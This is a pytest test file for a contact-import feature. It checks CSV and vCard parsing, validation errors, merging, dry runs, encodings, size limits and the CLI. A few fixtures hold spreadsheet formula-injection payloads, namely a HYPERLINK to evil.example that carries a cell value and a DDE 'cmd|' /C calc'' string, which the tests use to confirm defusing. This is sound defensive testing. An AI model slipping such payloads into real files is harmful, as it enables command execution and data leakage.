"""Import: valid, invalid and hostile CSV and vCard files; all or nothing; merges, no duplicates."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine
from typer.testing import CliRunner

from rapport.bot.core.importer import MAX_ROWS, parse_file, safe_cell, write_safe_csv
from rapport.bot.core.rapport import Rapport
from rapport.bot.core.views import Reply
from rapport.bot.service.cli import app
from rapport.storage.models import Contact, Note
from tests.conftest import Clock, console_user, snapshot

GOOD_CSV = (
    "name,kind,company,email,cadence,notes\n"
    "Dana Scully,client,FBI,Dana@FBI.gov,2 weeks,\"Likes hiking, esp. Yosemite\"\n"
    "Sam Lee,colleague,,,6w,\n"
    "Lee Park,,Acme,,,\n"
).encode("utf-8-sig")


async def _contacts(rapport: Rapport) -> list[tuple[object, ...]]:
    async with rapport.sessions() as session:
        return [tuple(r) for r in (await session.execute(
            select(Contact.name, Contact.kind, Contact.company, Contact.email,
                   Contact.cadence_days).order_by(Contact.name_key))).all()]


async def _import(rapport: Rapport, filename: str, data: bytes, dry_run: bool = False
                  ) -> Reply:
    ctx = await rapport.user_context(console_user())
    return await rapport.import_contacts(ctx, filename, data, dry_run=dry_run)


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


async def test_valid_csv_imports_and_second_import_changes_nothing(
        rapport: Rapport, engine: AsyncEngine) -> None:
    reply = await _import(rapport, "contacts.csv", GOOD_CSV)
    assert reply.ok, reply.text
    assert reply.text == "Added 3 people, updated 0 and left 0 unchanged (1 note added)."
    assert await _contacts(rapport) == [
        ("Dana Scully", "client", "FBI", "dana@fbi.gov", 14),
        ("Lee Park", "colleague", "Acme", None, None),
        ("Sam Lee", "colleague", None, None, 42)]
    async with rapport.sessions() as session:
        assert (await session.scalars(select(Note.text))).all() == [
            "Likes hiking, esp. Yosemite"]
    # Cadences from the import drive the sweep like typed ones.
    people = await rapport.handle_text(console_user(), "people")
    assert "Dana Scully (client at FBI, every 2 weeks)" in people.text
    before = await snapshot(engine)
    again = await _import(rapport, "contacts.csv", GOOD_CSV)
    assert again.ok and again.text == "Added 0 people, updated 0 and left 3 unchanged."
    assert not again.changed
    assert await snapshot(engine) == before


async def test_merges_with_existing_contacts_by_name_and_email(rapport: Rapport) -> None:
    actor = console_user()
    await rapport.handle_text(actor, "add dana scully")
    await _import(rapport, "a.csv", b"name,email\nSam Lee,sam@example.com\n")
    reply = await _import(rapport, "b.csv", b"name,kind,email,company\n"
                                            b"DANA SCULLY,client,,FBI\n"
                                            b"Samuel Lee,,SAM@example.com,Acme\n")
    assert reply.ok and reply.text.startswith("Added 0 people, updated 2 and left 0 unchanged")
    assert await _contacts(rapport) == [("dana scully", "client", "FBI", None, None),
                                        ("Sam Lee", "colleague", "Acme", "sam@example.com",
                                         None)]


async def test_dry_run_writes_nothing(rapport: Rapport, engine: AsyncEngine) -> None:
    await rapport.user_context(console_user())
    before = await snapshot(engine)
    reply = await _import(rapport, "contacts.csv", GOOD_CSV, dry_run=True)
    assert reply.ok and reply.text.startswith("Would add 3 people, would update 0")
    assert "Nothing was saved: this was a dry run." in reply.text
    assert await snapshot(engine) == before


async def test_invalid_rows_are_reported_and_nothing_is_imported(
        rapport: Rapport, engine: AsyncEngine) -> None:
    await rapport.user_context(console_user())
    before = await snapshot(engine)
    data = ("name,kind,company,email,cadence,notes\n"
            "Dana Scully,client,,,2 weeks,\n"          # row 2: fine
            "Sam Lee,,,,soon,\n"                       # row 3
            "Lee Park,boss,,,,\n"                      # row 4
            ",colleague,Acme,,,\n"                     # row 5
            "Kim Wu,,,not-an-email,,\n"                # row 6
            "dana  SCULLY,,,,,\n"                      # row 7: same person as row 2
            + "X" * 101 + ",,,,,\n").encode()          # row 8
    reply = await _import(rapport, "contacts.csv", data)
    assert not reply.ok
    assert reply.text.startswith("Nothing was imported; please fix these and try again:")
    for expected in ("row 3: cadence 'soon' is not a duration",
                     "row 4: kind 'boss' is not colleague or client",
                     "row 5: the name is empty",
                     "row 6: email 'not-an-email' is not an email address",
                     "row 7: “dana SCULLY” is already on row 2",
                     "row 8: name is longer than 100 characters"):
        assert expected in reply.text
    assert await snapshot(engine) == before


@pytest.mark.parametrize(("data", "message"), [
    (b"Dana Scully,client\nSam,colleague\n", "The first line must be a header"),
    (b"", "The file is empty."),
    (b"name\nDa\x00na\n", "not a text file"),
    ("name\nDana\n".encode("utf-16-le"), "looks like UTF-16"),
    (b"\xff\xfe", "The file is empty."),
    (b"name\n\x81\x8d\x9d\n", "neither UTF-8 nor Windows-1252"),
    (b"name,kind\n", "has a header but no contacts"),
])
async def test_unusable_files_get_a_clear_answer(rapport: Rapport, engine: AsyncEngine,
                                                 data: bytes, message: str) -> None:
    await rapport.user_context(console_user())
    before = await snapshot(engine)
    reply = await _import(rapport, "contacts.csv", data)
    assert not reply.ok and message in reply.text
    assert await snapshot(engine) == before


async def test_windows_1252_file_is_read_with_a_note(rapport: Rapport) -> None:
    data = "name;company\nJosé Müller;Café Crème\n".encode("cp1252")
    reply = await _import(rapport, "excel.csv", data)
    assert reply.ok and "read it as Windows-1252" in reply.text
    assert await _contacts(rapport) == [("José Müller", "colleague", "Café Crème", None, None)]


async def test_huge_files_are_refused(rapport: Rapport, engine: AsyncEngine) -> None:
    await rapport.user_context(console_user())
    before = await snapshot(engine)
    big = b"name,notes\n" + b"".join(b"Person %d,%s\n" % (i, b"x" * 200) for i in range(6000))
    reply = await _import(rapport, "big.csv", big)
    assert not reply.ok and "the limit is 1 MB" in reply.text
    many = b"name\n" + b"".join(b"P%d\n" % i for i in range(MAX_ROWS + 1))
    reply = await _import(rapport, "many.csv", many)
    assert not reply.ok and f"more than {MAX_ROWS} rows" in reply.text
    assert await snapshot(engine) == before


async def test_formula_injection_is_defused_and_never_exported(rapport: Rapport,
                                                               clock: Clock) -> None:
    data = (b"name,company,email,notes\n"
            b'"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'
            b"\"+cmd|' /C calc'!A0\",,@SUM(1+1)\n"
            b"\t-Dana,=1+2,,\"\r=2+3\"\n")
    reply = await _import(rapport, "evil.csv", data)
    assert reply.ok, reply.text
    assert "row 2: removed leading formula characters from name" in reply.text
    assert "row 3: removed leading formula characters from company" in reply.text
    names = [row[0] for row in await _contacts(rapport)]
    assert names == ["Dana", 'HYPERLINK("http://evil.example/?x="&A1,"click")']
    export = await rapport.handle_text(console_user(), "export")
    assert export.attachment is not None
    values = _strings(json.loads(export.attachment.data))
    assert 'HYPERLINK("http://evil.example/?x="&A1,"click")' in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_csv_writer_escapes_formulas() -> None:
    text = write_safe_csv([["=1+2", "+x", "-3", "@a", "\tb", "plain", 5]])
    assert text == "'=1+2,'+x,'-3,'@a,'\tb,plain,5\n"
    assert safe_cell(None) == ""


VCARDS = (
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Dana Scully\r\nN:Scully;Dana;;;\r\n"
    "ORG:FBI;X-Files\r\nEMAIL;TYPE=work:dana@fbi.gov\r\nEMAIL:other@fbi.gov\r\n"
    "NOTE:Likes hiking\\, esp. Yosemite\\nand coffee\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:4.0\r\nN:Lee;Sam;;;\r\nNOTE:a folded\r\n  note\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:2.1\r\nFN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Jos=C3=A9 "
    "M=C3=BC=\r\nller\r\nEND:VCARD\r\n"
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:=cmd|' /C calc'!A0\r\nEND:VCARD\r\n"
)


async def test_vcard_import_and_reimport(rapport: Rapport, engine: AsyncEngine) -> None:
    reply = await _import(rapport, "contacts.vcf", VCARDS.encode())
    assert reply.ok, reply.text
    assert reply.text.startswith("Added 4 people")
    assert "card 4: removed leading formula characters from name" in reply.text
    assert await _contacts(rapport) == [
        ("cmd|' /C calc'!A0", "colleague", None, None, None),
        ("Dana Scully", "colleague", "FBI", "dana@fbi.gov", None),
        ("José Müller", "colleague", None, None, None),
        ("Sam Lee", "colleague", None, None, None)]
    async with rapport.sessions() as session:
        notes = sorted((await session.scalars(select(Note.text))).all())
    assert notes == ["Likes hiking, esp. Yosemite and coffee", "a folded note"]
    before = await snapshot(engine)
    again = await _import(rapport, "contacts.vcf", VCARDS.encode())
    assert again.text.startswith("Added 0 people, updated 0 and left 4 unchanged")
    assert await snapshot(engine) == before


async def test_bad_vcards(rapport: Rapport) -> None:
    reply = await _import(rapport, "x.vcf", b"hello there\n")
    assert not reply.ok and "no contact cards" in reply.text
    reply = await _import(rapport, "x.vcf", b"BEGIN:VCARD\nEMAIL:a@b.co\nEND:VCARD\n")
    assert not reply.ok and "card 1: the name is empty" in reply.text


def test_parse_file_detects_vcard_by_content() -> None:
    parsed = parse_file("upload.txt", b"BEGIN:VCARD\nFN:Dana\nEND:VCARD\n", date(2026, 11, 23))
    assert [row.name for row in parsed.rows] == ["Dana"] and not parsed.errors


def test_cli_import_dry_run_then_real(tmp_path: Path, sqlite_template: Path,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    shutil.copy(sqlite_template, tmp_path / "cli.db")
    monkeypatch.setenv("RAPPORT_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}")
    source = tmp_path / "contacts.csv"
    source.write_bytes(GOOD_CSV)
    runner = CliRunner()
    result = runner.invoke(app, ["import", str(source), "--user", "console:local:alex",
                                 "--dry-run"])
    assert result.exit_code == 0 and "Would add 3 people" in result.output
    result = runner.invoke(app, ["import", str(source), "--user", "console:local:alex"])
    assert result.exit_code == 0 and "Added 3 people" in result.output
    bad = tmp_path / "bad.csv"
    bad.write_text("name,cadence\nDana,soon\n")
    result = runner.invoke(app, ["import", str(bad), "--user", "console:local:alex"])
    assert result.exit_code == 1 and "row 2: cadence 'soon' is not a duration" in result.output
    result = runner.invoke(app, ["import", str(source), "--user", "slack:T1:U1"])
    assert result.exit_code == 2 and "No workspace 'slack:T1'" in result.output
    result = runner.invoke(app, ["import", str(source), "--user", "alex"])
    assert result.exit_code == 2 and "platform:workspace:user" in result.output


def test_cli_import_refuses_rapports_own_database(tmp_path: Path, sqlite_template: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    database = tmp_path / "cli.db"
    shutil.copy(sqlite_template, database)
    monkeypatch.setenv("RAPPORT_DATABASE_URL", f"sqlite+aiosqlite:///{database}")
    (tmp_path / "alias.db").symlink_to(database)
    runner = CliRunner()
    for path in (database, tmp_path / "alias.db"):
        result = runner.invoke(app, ["import", str(path), "--user", "console:local:alex"])
        assert result.exit_code == 1 and "Rapport's own database" in result.output
        assert "NUL bytes" not in result.output
